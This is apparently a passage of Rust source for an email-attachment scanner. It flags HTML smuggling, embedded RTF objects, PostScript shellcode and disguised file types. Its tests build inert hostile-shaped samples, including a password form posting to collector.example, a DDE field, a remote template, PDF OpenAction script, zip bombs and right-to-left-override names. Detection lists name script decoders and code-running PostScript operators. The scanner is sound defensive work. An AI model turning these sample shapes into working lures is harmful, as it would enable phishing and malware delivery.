    let (mut seen, mut done) = (0, 0);
    // Each keyword costs a look back of 1 KiB: both counts are bounded.
    while seen < 20_000 && done < 1000 {
        let Some(at) = b.get(i..).and_then(|r| find(r, b"stream")).map(|p| i + p) else {
            break;
        };
        i = at + 6;
        seen += 1;
        if at >= 3 && &b[at - 3..at] == b"end" {
            continue;
        }
        let dict = &b[at.saturating_sub(1024)..at];
        let dict = rfind(dict, b"obj").map_or(dict, |o| &dict[o..]);
        let (mut objstm, mut flate) = (false, false);
        each_pdf_name(dict, |name, _, _| match name {
            b"ObjStm" => objstm = true,
            b"FlateDecode" | b"Fl" => flate = true,
            _ => {}
        });
        if !(objstm && flate) {
            continue;
        }
        let mut s = i;
        if b.get(s) == Some(&b'\r') {
            s += 1;
        }
        if b.get(s) == Some(&b'\n') {
            s += 1;
        }
        let end = b
            .get(s..)
            .and_then(|r| find(r, b"endstream"))
            .map_or(b.len(), |e| s + e);
        done += 1;
        if let Unpacked::Data(d) | Unpacked::Partial(d) =
            unpack(ctx, b.get(s..end).unwrap_or(&[]), Codec::Zlib, None)
        {
            pdf_names(&d, t);
        }
        i = end.max(i);
    }
}

// ---------------------------------------------------------------------------
// HTML, RTF, PostScript.

/// The end of the HTML smuggling words.
const SMUGGLES: &str = "offers it as a download (HTML smuggling)";

fn html(doc: &mut Found, links: &mut Vec<Link>, shown: &str, b: &[u8], max_scan: usize) {
    let b = &b[..b.len().min(max_scan)];
    let text = decode_text(b);
    let mut found = Vec::new();
    indicators::html_links(&text, &mut found);
    for l in found.iter().filter(|l| matches!(l.from, "a" | "form")) {
        doc_link(links, &l.url, l.text.as_deref(), l.from);
    }
    // Forms' targets as `html_links` read them (references decoded).
    for l in found.iter().filter(|l| l.from == "form") {
        let a = l.url.to_ascii_lowercase();
        if a.starts_with("http:") || a.starts_with("https:") || a.starts_with("//") {
            doc.add(
                "attach.html_form_external",
                6,
                format!(
                    "{shown} has a form that sends what is typed to {}",
                    clip(&l.url, 120)
                ),
            );
        }
    }
    let s = text.to_ascii_lowercase();
    let has = |n: &str| s.contains(n);
    if ["type=\"password\"", "type='password'", "type=password"]
        .iter()
        .any(|p| has(p))
    {
        doc.add(
            "attach.html_password",
            4,
            format!("{shown} asks for a password"),
        );
    }
    let script = has("<script");
    let decoders: Vec<&str> = [
        "atob(",
        "eval(",
        "unescape(",
        "fromcharcode",
        "decodeuricomponent(",
    ]
    .into_iter()
    .filter(|p| has(p))
    .collect();
    if script && !decoders.is_empty() {
        doc.add(
            "attach.html_obfuscated_script",
            5,
            format!(
                "{shown} decodes and runs hidden code ({})",
                decoders
                    .iter()
                    .map(|d| d.trim_end_matches('('))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
        );
    }
    let redirect = script
        && [
            "window.location",
            "location.href",
            "location.replace(",
            "location.assign(",
            "document.location",
            "top.location",
        ]
        .iter()
        .any(|p| has(p));
    let refresh =
        has("http-equiv=\"refresh\"") || has("http-equiv='refresh'") || has("http-equiv=refresh");
    if redirect || (refresh && has("url=")) {
        doc.add(
            "attach.html_redirect",
            5,
            format!("{shown} sends the reader to another page as soon as it is opened"),
        );
    }
    let builds = script && has("blob(") && (has("atob(") || has("base64") || has("uint8array"));
    let offers =
        has(".download") || has("download=") || has("mssaveoropenblob") || has("mssaveblob");
    let data_uri = has("download") && has(";base64,") && has("href=\"data:");
    if (builds && (offers || has("createobjecturl"))) || data_uri {
        doc.add(
            "attach.html_smuggling",
            9,
            format!("{shown} builds a file in the browser from hidden data and {SMUGGLES}"),
        );
    }
}

fn rtf(doc: &mut Found, shown: &str, b: &[u8], max_scan: usize) {
    let b = &b[..b.len().min(max_scan)];
    if find(b, b"\\objdata").is_none() && find(b, b"\\object").is_none() {
        return;
    }
    let update = find(b, b"\\objupdate").is_some();
    let equation = find(&b.to_ascii_lowercase(), b"equation.3").is_some();
    let mut words = format!("{shown} embeds an OLE object");
    if update {
        words.push_str(" set to refresh itself on opening (\\objupdate)");
    }
    if equation {
        words.push_str(", of the Equation Editor (Equation.3), a classic exploit vehicle");
    }
    doc.add(
        "attach.rtf_object",
        if update || equation { 8 } else { 5 },
        words,
    );
}

/// PostScript operators that run code or touch files.
const PS_STRONG: &[&str] = &[
    "exec",
    "eexec",
    ".eqproc",
    ".forceput",
    "superexec",
    "filenameforall",
    "deletefile",
    "renamefile",
];

/// PostScript with a long hex string (shellcode is often hidden so) or
/// with operators that run code.
fn postscript(doc: &mut Found, shown: &str, b: &[u8], max_scan: usize) {
    let b = &b[..b.len().min(max_scan)];
    let mut longest = 0usize;
    let mut i = 0;
    while let Some(p) = b.get(i..).and_then(|r| r.iter().position(|&c| c == b'<')) {
        let at = i + p;
        if b.get(at + 1) == Some(&b'<') {
            i = at + 2;
            continue;
        }
        let mut j = at + 1;
        let mut digits = 0;
        while let Some(&c) = b.get(j) {
            if c.is_ascii_hexdigit() {
                digits += 1;
            } else if !c.is_ascii_whitespace() {
                break;
            }
            j += 1;
        }
        if b.get(j) == Some(&b'>') {
            longest = longest.max(digits);
        }
        i = j.max(at + 1);
    }
    let mut ops: Vec<&str> = Vec::new();
    let mut weak = false;
    for tok in b.split(|&c| !pdf_name_char(c)) {
        if let Some(op) = PS_STRONG.iter().find(|o| o.as_bytes() == tok) {
            if !ops.contains(op) {
                ops.push(op);
            }
        } else if tok == b"readhexstring" {
            weak = true;
        }
    }
    let long = longest >= 1000;
    if !long && ops.is_empty() && !weak {
        return;
    }
    let mut words = format!("{shown} holds PostScript");
    if long {
        let _ = write!(
            words,
            " with a {}-character hex string",
            thousands(longest as u64)
        );
    }
    if !ops.is_empty() {
        let _ = write!(
            words,
            "{} the operator{} {}",
            if long { " and" } else { " with" },
            if ops.len() == 1 { "" } else { "s" },
            ops.join(", ")
        );
    }
    if weak && ops.is_empty() && !long {
        words.push_str(" that reads hex data (readhexstring)");
    }
    words.push_str(", a common way to hide and run shellcode");
    doc.add(
        "attach.postscript_payload",
        if long || !ops.is_empty() { 8 } else { 4 },
        words,
    );
}

// ---------------------------------------------------------------------------
// Small helpers.

fn u16le(b: &[u8], at: usize) -> Option<u16> {
    let s = b.get(at..at.checked_add(2)?)?;
    Some(u16::from_le_bytes([s[0], s[1]]))
}

fn u32le(b: &[u8], at: usize) -> Option<u32> {
    let s = b.get(at..at.checked_add(4)?)?;
    Some(u32::from_le_bytes([s[0], s[1], s[2], s[3]]))
}

fn u64le(b: &[u8], at: usize) -> Option<u64> {
    let s = b.get(at..at.checked_add(8)?)?;
    let mut a = [0; 8];
    a.copy_from_slice(s);
    Some(u64::from_le_bytes(a))
}

/// Whether `m` stands at `off` in `b` (any `off`: offsets read from a file
/// can be anything).
fn magic_at(b: &[u8], off: usize, m: &[u8]) -> bool {
    off.checked_add(m.len()).and_then(|end| b.get(off..end)) == Some(m)
}

/// A NUL-terminated string at `*p`, advancing past the NUL.
fn cstr<'a>(b: &'a [u8], p: &mut usize) -> Option<&'a [u8]> {
    let rest = b.get(*p..)?;
    let n = rest.iter().position(|&c| c == 0)?;
    *p += n + 1;
    Some(&rest[..n])
}

/// `len` bytes from `start`, cut to the end of `b` (empty past it).
fn clip_slice(b: &[u8], start: u64, len: u64) -> &[u8] {
    let Ok(start) = usize::try_from(start) else {
        return &[];
    };
    if start >= b.len() {
        return &[];
    }
    let end = usize::try_from(len).map_or(b.len(), |l| start.saturating_add(l).min(b.len()));
    &b[start..end]
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    let (&first, rest) = n.split_first()?;
    let mut i = 0;
    while i + n.len() <= h.len() {
        let at = i + h[i..=h.len() - n.len()].iter().position(|&c| c == first)?;
        if &h[at + 1..at + n.len()] == rest {
            return Some(at);
        }
        i = at + 1;
    }
    None
}

fn rfind(h: &[u8], n: &[u8]) -> Option<usize> {
    if n.is_empty() || n.len() > h.len() {
        return None;
    }
    (0..=h.len() - n.len())
        .rev()
        .find(|&i| &h[i..i + n.len()] == n)
}

/// At most `max` characters of `s`, `…` marking a cut.
fn clip(s: &str, max: usize) -> String {
    match s.char_indices().nth(max) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

fn clip_words(w: &mut String) {
    if w.len() > MAX_WORDS {
        let mut at = MAX_WORDS;
        while !w.is_char_boundary(at) {
            at -= 1;
        }
        w.truncate(at);
        w.push('…');
    }
}

/// A size in plain words (`10.5 MB`).
fn human(n: u64) -> String {
    match n {
        n if n < 1000 => format!("{n} B"),
        n if n < 1_000_000 => format!("{:.1} kB", n as f64 / 1e3),
        n if n < 1_000_000_000 => format!("{:.1} MB", n as f64 / 1e6),
        n => format!("{:.1} GB", n as f64 / 1e9),
    }
}

/// `2000` as `2,000`.
fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Sample builders shared with `tests/hostile.rs`.
#[cfg(test)]
#[path = "../tests/common/samples.rs"]
mod samples;

#[cfg(test)]
mod tests {
    //! Every sample is built here, at test time, and is inert: headers and
    //! strings with the shape of a threat, no code that could run.

    use super::samples::{self, cfb_file, crc32, fake_pe, zip_raw, RawMember};
    use super::*;
    use miniz_oxide::deflate::compress_to_vec;

    fn att<'a>(name: &'a str, bytes: &'a [u8]) -> Attachment<'a> {
        Attachment {
            name: Some(name),
            declared: None,
            bytes,
        }
    }

    fn rules(r: &Report) -> Vec<&'static str> {
        r.evidence.iter().map(|e| e.rule).collect()
    }

    /// A zip member to build.
    #[derive(Clone, Copy)]
    struct M<'a> {
        name: &'a str,
        data: &'a [u8],
        deflate: bool,
        flags: u16,
        declared: Option<u32>,
    }

    fn m<'a>(name: &'a str, data: &'a [u8]) -> M<'a> {
        M {
            name,
            data,
            deflate: true,
            flags: 0,
            declared: None,
        }
    }

    fn zip(members: &[M]) -> Vec<u8> {
        let raw: Vec<RawMember> = members
            .iter()
            .map(|x| RawMember {
                name: x.name.to_owned(),
                method: if x.deflate { 8 } else { 0 },
                flags: x.flags,
                packed: if x.deflate {
                    compress_to_vec(x.data, 6)
                } else {
                    x.data.to_vec()
                },
                size: x.declared.unwrap_or(x.data.len() as u32),
                crc: crc32(x.data),
            })
            .collect();
        zip_raw(&raw)
    }

    /// A shell-link header with no target.
    fn fake_lnk() -> Vec<u8> {
        let mut b = LNK_MAGIC.to_vec();
        b.resize(0x4c, 0);
        b
    }

    fn png() -> Vec<u8> {
        let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
        let ihdr = [b"IHDR".as_slice(), &[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]].concat();
        b.extend(13u32.to_be_bytes());
        b.extend(&ihdr);
        b.extend(crc32(&ihdr).to_be_bytes());
        b.extend(0u32.to_be_bytes());
        b.extend(b"IEND");
        b.extend(crc32(b"IEND").to_be_bytes());
        b
    }

    fn postscript_with_hex() -> String {
        format!(
            "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n/pad <{}> def\nshowpage\n",
            "41".repeat(1000)
        )
    }

    fn utf16le(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
    }

    fn hwp_sample() -> Vec<u8> {
        let mut header = vec![0u8; 256];
        header[..17].copy_from_slice(b"HWP Document File");
        header[32..36].copy_from_slice(&0x0500_0300u32.to_le_bytes());
        header[36..40].copy_from_slice(&1u32.to_le_bytes());
        let eps = compress_to_vec(postscript_with_hex().as_bytes(), 6);
        let js = utf16le("function OnDocument_Open() { var o = new ActiveXObject(\"Scripting.FileSystemObject\"); }");
        let js = compress_to_vec(&js, 6);
        let inner = cfb_file(&[("/Macros/VBA/dir", b"Attribute VB_Name = \"inert\"")]);
        let mut item = (inner.len() as u32).to_le_bytes().to_vec();
        item.extend(&inner);
        let item = compress_to_vec(&item, 6);
        cfb_file(&[
            ("/FileHeader", &header),
            ("/DocInfo", &[0u8; 16]),
            ("/BinData/BIN0001.eps", &eps),
            ("/BinData/BIN0002.OLE", &item),
            ("/Scripts/DefaultJScript", &js),
            ("/Scripts/JScriptVersion", &[0u8; 8]),
        ])
    }

    fn hwpx_sample() -> Vec<u8> {
        let ps = postscript_with_hex();
        zip(&[
            M {
                deflate: false,
                ..m("mimetype", b"application/hwp+zip")
            },
            m(
                "Contents/content.hpf",
                b"<opf:package><opf:manifest/></opf:package>",
            ),
            m(
                "Contents/section0.xml",
                b"<hs:sec><hp:p><hp:t>notice</hp:t></hp:p></hs:sec>",
            ),
            m("Scripts/headerScripts", b"var x = eval(\"1\");"),
            m("BinData/image1.eps", ps.as_bytes()),
        ])
    }

    const CONTENT_TYPES: &[u8] = b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    const DOC_XML: &[u8] =
        b"<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>";
    const DOC_RELS: &[u8] = b"<Relationships><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.com/\" TargetMode=\"External\"/></Relationships>";

    fn docx(extra: &[M]) -> Vec<u8> {
        let mut all = vec![
            m("[Content_Types].xml", CONTENT_TYPES),
            m("word/document.xml", DOC_XML),
            m("word/_rels/document.xml.rels", DOC_RELS),
        ];
        for e in extra {
            all.push(*e);
        }
        zip(&all)
    }

    fn dir_record(lba: u32, size: u32, dir: bool, name: &[u8]) -> Vec<u8> {
        let len = 33 + name.len() + (name.len() + 1) % 2;
        let mut r = vec![0u8; len];
        r[0] = len as u8;
        r[2..6].copy_from_slice(&lba.to_le_bytes());
        r[6..10].copy_from_slice(&lba.to_be_bytes());
        r[10..14].copy_from_slice(&size.to_le_bytes());
        r[14..18].copy_from_slice(&size.to_be_bytes());
        r[25] = if dir { 2 } else { 0 };
        r[32] = name.len() as u8;
        r[33..33 + name.len()].copy_from_slice(name);
        r
    }

    fn iso_with(name: &str, data: &[u8]) -> Vec<u8> {
        const S: usize = 2048;
        let mut b = vec![0u8; S * 20];
        let pvd = 16 * S;
        b[pvd] = 1;
        b[pvd + 1..pvd + 6].copy_from_slice(b"CD001");
        b[pvd + 6] = 1;
        b[pvd + 128..pvd + 130].copy_from_slice(&2048u16.to_le_bytes());
        let root = dir_record(18, S as u32, true, &[0]);
        b[pvd + 156..pvd + 156 + root.len()].copy_from_slice(&root);
        b[17 * S] = 255;
        b[17 * S + 1..17 * S + 6].copy_from_slice(b"CD001");
        let mut d = dir_record(18, S as u32, true, &[0]);
        d.extend(dir_record(18, S as u32, true, &[1]));
        d.extend(dir_record(
            19,
            data.len() as u32,
            false,
            format!("{name};1").as_bytes(),
        ));
        b[18 * S..18 * S + d.len()].copy_from_slice(&d);
        b[19 * S..19 * S + data.len()].copy_from_slice(data);
        b
    }

    fn gz(name: &str, data: &[u8]) -> Vec<u8> {
        let mut b = vec![0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3];
        b.extend(name.as_bytes());
        b.push(0);
        b.extend(compress_to_vec(data, 6));
        b.extend(crc32(data).to_le_bytes());
        b.extend((data.len() as u32).to_le_bytes());
        b
    }

    const PDF_ACTIONS: &[u8] = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Type /Action /S /J#61vaScript /JS (void 0;) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
    const PDF_CLEAN: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";

    fn pdf_objstm() -> Vec<u8> {
        samples::pdf_objstm(b"%%EOF\n")
    }

    const HTML_SMUGGLE: &[u8] = b"<!DOCTYPE html><html><body>\n<form action=\"https://collector.example/login\" method=\"post\"><input type=\"password\" name=\"p\"></form>\n<script>\nvar d = atob(\"aW5lcnQ=\");\nvar b = new Blob([d], {type: \"application/octet-stream\"});\nvar a = document.createElement(\"a\"); a.href = URL.createObjectURL(b); a.download = \"invoice.iso\"; a.click();\n</script></body></html>\n";

    const RTF_OBJECT: &[u8] = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}";

    fn rar4_encrypted() -> Vec<u8> {
        let mut b = b"Rar!\x1a\x07\x00".to_vec();
        b.extend([0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0]);
        let name = b"invoice.exe";
        let data = [0x55u8; 16];
        let mut h = vec![0, 0, 0x74];
        h.extend(0x8004u16.to_le_bytes());
        h.extend(((32 + name.len()) as u16).to_le_bytes());
        h.extend((data.len() as u32).to_le_bytes());
        h.extend(1000u32.to_le_bytes());
        h.push(2);
        h.extend([0u8; 8]);
        h.extend([29, 0x33]);
        h.extend((name.len() as u16).to_le_bytes());
        h.extend([0u8; 4]);
        h.extend(name);
        b.extend(h);
        b.extend(data);
        b.extend([0, 0, 0x7b, 0, 0x40, 7, 0]);
        b
    }

    fn rar5_encrypted_headers() -> Vec<u8> {
        let mut b = b"Rar!\x1a\x07\x01\x00".to_vec();
        let h = [4u8, 0, 0, 0, 0, 0];
        b.extend([0u8; 4]);
        b.push(h.len() as u8);
        b.extend(h);
        b.extend([0x77u8; 48]);
        b
    }

    fn seven_zip_aes() -> Vec<u8> {
        let mut b = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
        b.extend([0u8; 4]);
        b.extend(16u64.to_le_bytes());
        b.extend(12u64.to_le_bytes());
        b.extend([0u8; 4]);
        b.extend([0x33u8; 16]);
        b.extend([
            0x17, 0x06, 0x0b, 0x01, 0x24, 0x06, 0xF1, 0x07, 0x01, 0x00, 0x00, 0x00,
        ]);
        b
    }

    fn onenote_with(data: &[u8]) -> Vec<u8> {
        let mut b = ONENOTE_MAGIC.to_vec();
        b.extend([0u8; 64]);
        b.extend([
            0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A,
            0x9E, 0xAC,
        ]);
        b.extend((data.len() as u64).to_le_bytes());
        b.extend([0u8; 12]);
        b.extend(data);
        b.extend([0u8; 32]);
        b
    }

    #[test]
    fn pe_named_pdf_is_an_executable_and_a_mismatch() {
        let pe = fake_pe();
        let r = inspect(&Attachment {
            name: Some("invoice.pdf"),
            declared: Some("application/pdf"),
            bytes: &pe,
        });
        assert_eq!(r.detected, "pe");
        assert_eq!(r.size, pe.len() as u64);
        assert_eq!(r.sha256, to_hex(&sha256(&pe)));
        assert!(r.get("attach.executable").is_some(), "{r:?}");
        let mm = r.get("attach.type_mismatch").unwrap();
        assert!(
            mm.words
                .contains("invoice.pdf is named .pdf but is a Windows program"),
            "{}",
            mm.words
        );
        assert!(
            mm.words.contains("declared as application/pdf"),
            "{}",
            mm.words
        );
        assert!(r.score() >= crate::evidence::PHISHING_AT);
    }

    #[test]
    fn double_extensions_and_padding() {
        let r = inspect(&att("résumé.pdf.exe", b"not really a program"));
        assert!(r
            .get("attach.double_extension")
            .unwrap()
            .words
            .contains(".exe behind .pdf"));
        assert!(r.get("attach.executable").is_some());
        let r = inspect(&att("doc.hwp   .exe", b"x"));
        let e = r.get("attach.double_extension").unwrap();
        assert!(
            e.words.contains("behind .hwp, padded with blanks"),
            "{}",
            e.words
        );
        let r = inspect(&att("invoice.exe. ", b"x"));
        assert!(
            r.get("attach.executable").is_some(),
            "trailing dot and blank ignored"
        );
        let r = inspect(&att("archive.tar.gz", b"x"));
        assert!(r.get("attach.double_extension").is_none());
    }

    #[test]
    fn right_to_left_override_in_name() {
        let r = inspect(&att("photo_\u{202E}gpj.exe", b"x"));
        let e = r.get("attach.rtl_override").unwrap();
        assert!(
            e.words.contains("<U+202E>") && e.words.contains("real extension is .exe"),
            "{}",
            e.words
        );
        assert!(r.get("attach.executable").is_some());
        assert_eq!(r.name, "photo_\u{202E}gpj.exe");
    }

    #[test]
    fn zip_with_a_shortcut_inside() {
        let lnk = fake_lnk();
        let z = zip(&[
            m("docs/readme.txt", b"hello"),
            m("docs/invoice.pdf.lnk", &lnk),
        ]);
        let r = inspect(&att("documents.zip", &z));
        assert_eq!(r.detected, "zip");
        assert_eq!(r.inner.len(), 2);
        let lnk_r = &r.inner[1];
        assert_eq!(lnk_r.detected, "lnk");
        assert_eq!(lnk_r.sha256, to_hex(&sha256(&lnk)));
        assert!(rules(lnk_r).contains(&"attach.executable"));
        assert!(rules(lnk_r).contains(&"attach.double_extension"));
        assert!(r.inner[0].evidence.is_empty());
        let c = r.get("attach.archive_contains").unwrap();
        assert!(
            c.weight >= 8 && c.words.contains("invoice.pdf.lnk"),
            "{c:?}"
        );
    }

    #[test]
    fn encrypted_zip() {
        let z = zip(&[M {
            deflate: false,
            flags: 1,
            ..m("invoice.js", &[0x5a; 40])
        }]);
        let r = inspect(&att("invoice.zip", &z));
        let e = r.get("attach.encrypted_archive").unwrap();
        assert!(e.words.contains("1 of 1 files"), "{}", e.words);
        assert_eq!(r.inner[0].sha256, "", "encrypted members are not read");
        assert!(
            r.get("attach.archive_contains").is_some(),
            "a .js is risky by name alone"
        );
    }

    #[test]
    fn zip_bomb_is_reported_not_inflated() {
        let zeros = vec![0u8; 10 << 20];
        // Declared honestly: the ratio alone condemns it, nothing is inflated.
        let r = inspect(&att("bomb.zip", &zip(&[m("zeros.bin", &zeros)])));
        let e = r.get("attach.archive_bomb").unwrap();
        assert!(e.words.contains("zeros.bin"), "{}", e.words);
        assert_eq!(r.inner[0].sha256, "");
        // Declared small: inflation stops at the declared size.
        let z = zip(&[M {
            declared: Some(1000),
            ..m("zeros.bin", &zeros)
        }]);
        let e = inspect(&att("bomb.zip", &z))
            .get("attach.archive_bomb")
            .cloned()
            .unwrap();
        assert!(e.words.contains("past its declared size"), "{}", e.words);
        // Low limits: the member is judged by name, the budget never overrun.
        let lim = Limits {
            max_inflated_total: 256 << 10,
            max_ratio: 1 << 20,
            ..Limits::default()
        };
        let r = inspect_with(
            &att(
                "big.zip",
                &zip(&[M {
                    declared: Some(0),
                    ..m("zeros.bin", &zeros)
                }]),
            ),
            &lim,
        );
        assert!(r.get("attach.archive_bomb").is_some(), "{r:?}");
        let packed = compress_to_vec(&zeros, 6);
        for lim in [
            lim,
            Limits {
                max_ratio: 10,
                bomb_floor: 0,
                ..Limits::default()
            },
        ] {
            let mut ctx = Ctx::new(&lim);
            ctx.members_left = 1;
            let got = unpack(&mut ctx, &packed, Codec::Deflate, None);
            assert!(matches!(got, Unpacked::Bomb(_) | Unpacked::OverBudget));
            let used = lim.max_inflated_total - ctx.unpack_left;
            assert!(
                used <= lim
                    .max_inflated_total
                    .min(packed.len() as u64 * lim.max_ratio)
                    .max(lim.bomb_floor.min(lim.max_inflated_total))
            );
        }
    }

    #[test]
    fn too_deep_nesting_is_not_opened() {
        let lnk = fake_lnk();
        let mut cur = zip(&[m("invoice.lnk", &lnk)]);
        let names: Vec<String> = (0..5).map(|i| format!("level{i}.zip")).collect();
        for n in &names {
            cur = zip(&[m(n, &cur)]);
        }
        let r = inspect(&att("nested.zip", &cur));
        let deepest = &r.inner[0].inner[0].inner[0];
        assert_eq!(deepest.name, "level2.zip");
        assert!(deepest.get("attach.too_deep").is_some(), "{deepest:?}");
        assert!(deepest.inner.is_empty());
        assert!(r.get("attach.archive_contains").is_some());
    }

    #[test]
    fn docx_with_macros() {
        let z = docx(&[m("word/vbaProject.bin", b"inert")]);
        let r = inspect(&att("invoice.docx", &z));
        assert_eq!(r.detected, "ooxml-docm");
        assert!(r
            .get("attach.ooxml_macros")
            .unwrap()
            .words
            .contains("word/vbaProject.bin"));
        assert!(r.get("attach.type_mismatch").is_none());
    }

    #[test]
    fn docx_with_remote_template_and_dde() {
        let rels = b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://templates.example/t.dotm?a=1&amp;b=2\" TargetMode=\"External\"/></Relationships>";
        let r = inspect(&att(
            "offer.docx",
            &docx(&[m("word/_rels/settings.xml.rels", rels)]),
        ));
        let e = r.get("attach.remote_template").unwrap();
        assert!(
            e.words.contains("https://templates.example/t.dotm?a=1&b=2"),
            "{}",
            e.words
        );
        // Numeric references in the target are XML too.
        let coded =
            String::from_utf8_lossy(rels).replace("https://templates", "&#104;ttps://templates");
        let r = inspect(&att(
            "offer.docx",
            &docx(&[m("word/_rels/settings.xml.rels", coded.as_bytes())]),
        ));
        let e = r.get("attach.remote_template").expect("the coded target");
        assert!(
            e.words.contains("https://templates.example/t.dotm"),
            "{}",
            e.words
        );
        assert!(
            r.get("attach.external_object").is_none(),
            "hyperlinks are not evidence"
        );
        let local = b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"file:///C:\\Users\\kim\\Templates\\Letter.dotx\" TargetMode=\"External\"/></Relationships>";
        let r = inspect(&att(
            "letter.docx",
            &docx(&[m("word/_rels/settings.xml.rels", local)]),
        ));
        assert!(
            r.evidence.is_empty(),
            "a local template is normal: {:?}",
            r.evidence
        );
        let share = b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"\\\\203.0.113.9\\t\\x.dotm\" TargetMode=\"External\"/></Relationships>";
        let r = inspect(&att(
            "letter.docx",
            &docx(&[m("word/_rels/settings.xml.rels", share)]),
        ));
        assert!(
            r.get("attach.remote_template")
                .unwrap()
                .words
                .contains("network share"),
            "{r:?}"
        );
        let doc = b"<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\inert\\\\x.exe \"/k echo\" </w:instrText></w:r></w:p></w:body></w:document>";
        let z = zip(&[
            m("[Content_Types].xml", CONTENT_TYPES),
            m("word/document.xml", doc),
        ]);
        let r = inspect(&att("dde.docx", &z));
        assert!(r.get("attach.dde").is_some(), "{r:?}");
        // The same part in UTF-16 without a byte order mark, as XML allows.
        let doc16: Vec<u8> = String::from_utf8_lossy(doc)
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        let z = zip(&[
            m("[Content_Types].xml", CONTENT_TYPES),
            m("word/document.xml", &doc16),
        ]);
        let r = inspect(&att("dde.docx", &z));
        assert!(r.get("attach.dde").is_some(), "UTF-16: {r:?}");
        let rels = b"<Relationships><Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"mhtml:https://x.example/a.html!x-usc:https://x.example/a.html\" TargetMode=\"External\"/></Relationships>";
        let r = inspect(&att(
            "f.docx",
            &docx(&[m("word/_rels/document2.xml.rels", rels)]),
        ));
        assert!(r.get("attach.protocol_handler").is_some(), "{r:?}");
    }

    /// What a docx whose `word/_rels/document.xml.rels` part is `rels`
    /// gives.
    fn with_doc_rels(rels: &[u8]) -> Report {
        inspect(&att(
            "offer.docx",
            &docx(&[m("word/_rels/document.xml.rels", rels)]),
        ))
    }

    /// A relationship's attributes are read as XML reads them: a value may
    /// hold `>` and what looks like another attribute, and neither hides
    /// the real one.
    #[test]
    fn relationship_attributes_are_read_as_xml_reads_them() {
        let tag = " Id='a' Type=\"x Target='about:blank' y>z\" Target = \"http://e.example/t\" TargetMode=External/><next>";
        let (attrs, end) = xml_attrs(tag);
        assert_eq!(
            attrs,
            [
                ("Id", "a"),
                ("Type", "x Target='about:blank' y>z"),
                ("Target", "http://e.example/t"),
                ("TargetMode", "External"),
            ]
        );
        assert_eq!(&tag[end..], "<next>");
        // No `>`, no closing quote: to the end, no panic.
        assert_eq!(xml_attrs(" A=\"b").0, [("A", "b")]);
        assert_eq!(xml_attrs(" novalue A='1'").0, [("A", "1")]);
        // The evasions, end to end: a decoy `Target=` in another value,
        // a `>` in a value, a quote in a comment, processing instruction or
        // CDATA section; a coded TargetMode; a prefix; tabs and new lines.
        const OLE: &str =
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject";
        for rel in [
            format!("<Relationship Id=\"x Target='a.bin' y\" Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
            format!("<Relationship Id=\"a>b\" Type='{OLE}' Target='https://e.example/o.bin' TargetMode='External'/>"),
            format!("<!-- <Relationship Id='--><Relationship Id=\"r\" Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/><!-- ' -->"),
            format!("<?pi <Relationship Id=' ?><Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/><?pi ' ?>"),
            format!("<![CDATA[<Relationship Id=']]><Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
            format!("<Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"&#69;xternal\"/>"),
            format!("<pr:Relationship xmlns:pr=\"x\" Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
            format!("<Relationship\tType=\"{OLE}\"\nTarget=\"https://e.example/o.bin\"\r\nTargetMode=\"External\"/>"),
            format!("<Relationship Type=\"{OLE}\" Target=\"https://e.example/o.bin\" TargetMode=\"Internal\" TargetMode=\"External\"/>"),
